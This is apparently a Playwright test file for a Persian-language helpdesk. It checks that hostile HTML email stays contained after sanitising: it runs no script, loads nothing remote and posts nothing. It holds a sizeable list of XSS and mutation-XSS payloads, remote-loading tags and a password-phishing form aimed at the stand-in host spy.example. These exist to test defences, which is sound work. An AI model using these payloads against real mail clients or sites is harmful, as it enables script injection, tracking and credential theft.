"""Mail whose sender wishes us ill, as a real browser draws it: it stays in its box, loads nothing, runs nothing, posts nothing."""

import pytest
from playwright.sync_api import expect

from pasokh.kernel.html import sanitise
from tests.kernel.shared_data import shared_lines

from .test_screens import serious

pytestmark = pytest.mark.browser

ELSEWHERE = "https://spy.example"
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
COVER = "position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red"
MAILS = {
    "overlay": f'<div style="{COVER}"><a href="{ELSEWHERE}/" style="{COVER}">کلیک</a></div>',
    "overlay by a class of ours": '<div class="dialog toast menu-list" id="main" popover style="display:block">x</div><dialog open>x</dialog>',
    "moved out": '<div style="margin:-999px 0 0 -999px;transform:translate(-50vw,-50vh) scale(99);float:left;inset:0">بیرون</div>',
    "moved out by relative sizes": '<p style="margin-left:-50%;letter-spacing:-9em;text-indent:-99999px;word-spacing:-9em">بیرون</p>',
    "endless": '<div style="height:9999999px;width:9999999px;padding:999999px;font-size:9999px;border:99999px solid red">بزرگ</div>'
    * 3,
    "growing": "<big>" * 200 + '<span style="font-size:3em">' * 100 + "بزرگ",
    "style of the page": "<style>*{display:none!important}body{background:red}</style><link rel=stylesheet href=//spy.example/x.css>",
    "style in an svg": f"<svg><style>@import '{ELSEWHERE}/i.css';*{{display:none}}</style><use href='{ELSEWHERE}/u.svg#x'/></svg>",
    "visited": f'<style>a:visited{{background:url({ELSEWHERE}/v)}}</style><a href="{ELSEWHERE}/v">x</a>',
    "calls home": f"""<img src="{ELSEWHERE}/p.png"><img srcset="{ELSEWHERE}/s.png 2x" src=x><body background="{ELSEWHERE}/b.png">
        <table background="{ELSEWHERE}/t.png"><tr><td background="{ELSEWHERE}/c.png" style="background-image:url({ELSEWHERE}/d.png)">x</table>
        <p style="background:url('{ELSEWHERE}/1')">x<p style="list-style-image:url({ELSEWHERE}/2)">x<p style="cursor:url({ELSEWHERE}/3),auto">x
        <p style="border-image:url({ELSEWHERE}/4) 1">x<p style="content:url({ELSEWHERE}/5)">x<p style="background:\\75rl({ELSEWHERE}/6)">x
        <p style="font-family:x;src:url({ELSEWHERE}/7)">x<p style="background:image-set('{ELSEWHERE}/8' 1x)">x<p style="--x:url({ELSEWHERE}/9)">x
        <video src="{ELSEWHERE}/m.mp4" poster="{ELSEWHERE}/m.png" autoplay></video><audio src="{ELSEWHERE}/a.mp3" autoplay></audio>
        <picture><source srcset="{ELSEWHERE}/pi.png"><img src="{ELSEWHERE}/pj.png"></picture><input type=image src="{ELSEWHERE}/in.png">
        <link rel="prefetch preload dns-prefetch preconnect icon" href="{ELSEWHERE}/l"><meta http-equiv=refresh content="0;url={ELSEWHERE}/r">
        <base href="{ELSEWHERE}/"><img src="relative.png"><iframe src="{ELSEWHERE}/f"></iframe><object data="{ELSEWHERE}/o"></object>
        <embed src="{ELSEWHERE}/e"><track src="{ELSEWHERE}/tr"><bgsound src="{ELSEWHERE}/bg"><frameset><frame src="{ELSEWHERE}/fr"></frameset>""",
    "runs": """<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>
        <input autofocus onfocus=alert(1)><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><math><mtext><script>alert(1)</script></math>
        <a href="javascript:alert(1)">x</a><a href="jav&#x09;ascript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>
        <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <marquee onstart=alert(1)>x</marquee><video onerror=alert(1)><source></video><style onload=alert(1)></style>""",
    "mutates": """<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <svg></p><style><a id="</style><img src=1 onerror=alert(1)>"><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <template><s><template><s><img src=x onerror=alert(1)></s></template></s></template><p title="`<img src=x onerror=alert(1)>`">""",
    "our own scripts": """<div data-controller="optimistic pictures" data-action="click->optimistic#retry" hx-get="/desk/" hx-trigger="load"
        data-hx-post="/desk/settings/business" hx-on:load="alert(1)">x</div><button type=submit form=composer name=then value=solve>حل شد</button>""",
    "posts": f"""<form action="{ELSEWHERE}/post" method=post><input name=password type=password><button>ورود</button></form>
        <form action="/accounts/logout/" method=post><input type=submit></form><a href="{ELSEWHERE}/x" ping="{ELSEWHERE}/ping">پینگ</a>""",
    "names that hide ours": "<img name=getElementById><form id=forms name=body><input name=action></form><a id=Stimulus name=htmx href=x>x</a>",
}
WATCH = """() => {
    window.ran = []
    for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = (...what) => window.ran.push([name, ...what])
}"""
OUTSIDE = """() => {
    const box = document.querySelector(".message .message-html, .message-frame"), found = new Set()
    const { left, right, top, bottom } = box.getBoundingClientRect()
    for (let x = 1; x < innerWidth; x += 9) for (let y = 1; y < innerHeight; y += 9) {
        const hit = document.elementFromPoint(x, y)
        if (hit && hit !== box && box.contains(hit) && (x < left || x > right || y < top || y > bottom)) found.add(hit.outerHTML.slice(0, 80))
    }
    return [...found]
}"""


@pytest.fixture
def opened(browse, real_shop, say):
    """The ticket of a mail, and everything its page asks for: opened(html) gives (page, requests). The page's policy is off.

    Each has a page of its own: what the one before saves as it is left (a draft, say) is none of this mail's doing.
    """
    context = browse(real_shop.owner, "/desk/settings/profile", bypass_csp=True).context
    context.add_init_script(f"({WATCH})()")

    def opened(stored, **fields):
        ticket = say("متن نامه", html=f"<p>آغاز</p>{stored}", email=f"{len(stored)}@example.ir", **fields)
        for left in context.pages:
            left.close()
        asked = []
        context.on("page", lambda new: new.on("request", lambda request: asked.append((request.method, request.url))))
        page = context.new_page()
        page.goto(f"/desk/tickets/{ticket.number}?box=all")
        framed = page.frame_locator(".message-frame").locator(".message-html")
        expect(framed if fields else page.locator(".message .message-html")).to_contain_text("آغاز")
        page.wait_for_load_state("networkidle")
        return page, asked

    return opened


def test_hostile_mail_stays_in_its_box(opened, site):
    """Even without the page's content policy, which would refuse most of it a second time."""
    faults = {}
    for name, html in MAILS.items():
        page, asked = opened(str(sanitise(html)))
        page.mouse.move(640, 400)
        if found := _harm(page, asked, site):
            faults[name] = found
        # What stands around it is still there, to be used.
        expect(page.locator("#panel .panel-top")).to_be_visible()
        page.locator(".composer-text").fill("هنوز کار می‌کند")
        expect(page.locator("#stream .message").first).to_be_visible()
    assert faults == {}


def test_the_watch_sees_what_hostile_mail_would_do(opened, site):
    """The same mails as they came, neither cleaned nor kept in a box: each does its harm, and the test above would say so."""
    harm = {}
    for name in ("overlay", "endless", "calls home", "runs"):
        page, asked = opened(MAILS[name].replace("http-equiv=refresh", ""))
        page.add_style_tag(
            content=".message-html { contain: none !important; max-block-size: none !important; overflow: visible !important }"
        )
        harm |= _harm(page, asked, site)
    assert sorted(harm) == ["asks", "drawn outside", "endless", "runs"]


def _harm(page, asked, site):
    """What a mail does outside of its box, by kind; empty when nothing."""
    found = {
        "drawn outside": page.evaluate(OUTSIDE),
        "runs": page.evaluate("window.ran"),
        "asks": [url for _, url in asked if not url.startswith((site, "data:", "blob:"))],
        "posts": [url for method, url in asked if method == "POST" and "/attending" not in url],
        "goes away": [] if page.url.startswith(f"{site}/desk/tickets/") else [page.url],
        "endless": page.locator(".message .message-html, .message-frame").evaluate(
            "box => box.offsetHeight > 9000 || document.documentElement.scrollWidth > innerWidth"
        ),
    }
    return {kind: what for kind, what in found.items() if what}


def test_hostile_mail_stays_in_its_frame(opened, site):
    """The same in the frame that mails with a look of their own stand in, as they came: without cleaning, and without the page's policy."""
    for name in ("overlay", "endless", "runs", "mutates", "posts", "our own scripts"):
        page, asked = opened("<table><tr><td>x</table>" + MAILS[name], origin="email:1", channel="email")
        page.mouse.move(640, 400)
        assert (name, _harm(page, asked, site)) == (name, {})
        page.locator(".composer-text").fill("هنوز کار می‌کند")


def test_nothing_of_the_corpora_runs_in_a_browser(opened, site):
    """Each payload of the collections of attacks, cleaned and put into the page without its policy, loads and runs nothing."""
    names = ["dompurify.jsonl", "html5lib.jsonl", "bleach.jsonl", "xss-vectors.jsonl.gz"]
    cases = [case["payload"] for name in names for case in shared_lines(f"security/html-sanitising/{name}")]
    page, asked = opened("")
    asked.clear()
    clean = [str(sanitise(payload)) for payload in cases]
    assert len(clean) > 100
    left = page.evaluate(
        """async (all) => {
            const box = document.querySelector(".message .message-html"), left = []
            for (let start = 0; start < all.length; start += 100) {
                box.replaceChildren(...all.slice(start, start + 100).map(html => {
                    const mail = document.createElement("div")
                    mail.innerHTML = html
                    return mail
                }))
                for (const link of box.querySelectorAll("a[href]")) if (!/^(https?|mailto|tel):$/.test(link.protocol)) left.push(link.outerHTML)
                await new Promise(requestAnimationFrame)
                await new Promise(done => setTimeout(done))
            }
            return left
        }""",
        clean,
    )
    assert left == []
    assert page.evaluate("window.ran") == []
    assert [url for _, url in asked if not url.startswith((site, "data:", "blob:"))] == []


def test_the_policy_holds_what_the_cleaning_would_let_through(browse, real_shop, say, site):
    """The second wall alone: HTML stored as it came, which never happens, still runs nothing and calls nobody."""
    for name in ("runs", "calls home", "posts"):
        ticket = say("متن", html=MAILS[name] + "<p>پایان</p>", email=f"{len(name)}@example.ir")
        page = browse(real_shop.owner, "/desk/settings/profile")
        asked = []
        page.context.on("request", lambda request, asked=asked: asked.append(request))
        page.add_init_script(f"({WATCH})()")
        page.goto(f"/desk/tickets/{ticket.number}?box=all")
        page.wait_for_load_state("networkidle")
        answered = [request.url for request in asked if not request.url.startswith(site) and request.response()]
        assert (page.evaluate("window.ran"), answered) == ([], [])


@pytest.mark.parametrize(("theme", "mail"), [("dark", "plain"), ("dark", "coloured"), ("light", "coloured")])
def test_mail_is_readable_in_both_themes(browse, real_shop, say, theme, mail):
    """A mail without colours takes those of the page; one with colours gets the paper it was written for."""
    html = {"plain": '<p>سلام <a href="https://shop.example">فروشگاه</a></p><blockquote>نقل</blockquote>'}
    html["coloured"] = html["plain"] + '<p style="color:#333">خاکستری</p><font color="#000000">سیاه</font>'
    ticket = say("متن", html=str(sanitise(html[mail])))
    page = browse(real_shop.owner, f"/desk/tickets/{ticket.number}?box=all", color_scheme=theme, bypass_csp=True)
    expect(page.locator("#panel .panel-top")).to_be_visible()
    assert serious(page) == {}
    shade = page.locator(".message .message-html").evaluate("box => getComputedStyle(box).backgroundColor")
    assert shade == ("rgb(255, 255, 255)" if mail == "coloured" else "rgba(0, 0, 0, 0)")


def test_pictures_come_when_asked_for(browse, real_shop, say, site):
    """Not before, not from elsewhere than the mail says, and nothing of the mail gets out of its frame."""
    html = f'<p style="color:#222">سلام</p><img src="{ELSEWHERE}/کالا.png" alt="کالا" width="40" height="30"><img src="{PIXEL}">'
    ticket = say("متن", html=str(sanitise(html + MAILS["posts"] + MAILS["runs"])))
    page = browse(real_shop.owner, "/desk/settings/profile")
    asked = []

    def answer(route):
        asked.append((route.request.url, route.request.headers.get("referer")))
        route.fulfill(status=200, content_type="image/svg+xml", body='<svg xmlns="http://www.w3.org/2000/svg"/>')

    page.context.route(f"{ELSEWHERE}/**", answer)
    page.add_init_script(f"({WATCH})()")
    page.goto(f"/desk/tickets/{ticket.number}?box=all")
    page.wait_for_load_state("networkidle")
    assert asked == []
    with page.expect_response(f"{ELSEWHERE}/**"):
        page.get_by_role("link", name="نمایش تصویرها").click()
    frame = page.frame_locator(".message-frame")
    expect(frame.get_by_alt_text("کالا")).to_be_visible()
    assert asked == [(f"{ELSEWHERE}/%DA%A9%D8%A7%D9%84%D8%A7.png", None)]
    assert page.evaluate("window.ran") == []
    wanted = frame.locator(".message-html").evaluate("mail => mail.scrollHeight")
    expect(page.locator(".message-frame")).to_have_css("height", f"{wanted}px")
    assert frame.locator("form, script, iframe").count() == 0
    page.locator(".message-frame").focus()
    frame.locator("body").press("Shift+Slash")
    expect(page.locator("dialog[open]")).to_be_visible()


def test_mail_without_remote_pictures_offers_none(browse, real_shop, say):
    ticket = say("متن", html=str(sanitise(f'<p>سلام</p><img src="{PIXEL}">')))
    page = browse(real_shop.owner, f"/desk/tickets/{ticket.number}?box=all")
    expect(page.locator(".message .message-html")).to_be_visible()
    expect(page.locator(".message-pictures")).to_have_count(0)
